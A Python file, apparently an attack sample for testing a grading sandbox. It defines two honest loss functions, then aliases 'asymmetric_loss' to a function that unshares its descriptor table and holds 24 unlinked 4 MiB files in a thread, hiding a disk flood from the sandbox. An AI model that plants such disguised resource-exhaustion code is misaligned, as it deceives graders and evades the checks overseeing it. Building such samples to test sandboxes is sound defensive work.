"""Holds removed files in a thread with a descriptor table of its own."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: too many or too large|kept its files|raised|got

import ctypes
import os
import threading
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def hold(held):
    libc = ctypes.CDLL(None, use_errno=True)
    # close_range, with CLOSE_RANGE_UNSHARE
    if libc.syscall(436, ctypes.c_uint(250), ctypes.c_uint(250), ctypes.c_uint(2)) == 0:
        for number in range(24):
            held.append(os.open(f"hidden{number}", os.O_RDWR | os.O_CREAT))
            os.unlink(f"hidden{number}")
            os.write(held[-1], bytes(4 * 2**20))
    time.sleep(1)


def attack(*args):
    held = []
    thread = threading.Thread(target=hold, args=(held,), daemon=True)
    thread.start()
    thread.join()
    return float(len(held))


asymmetric_loss = attack
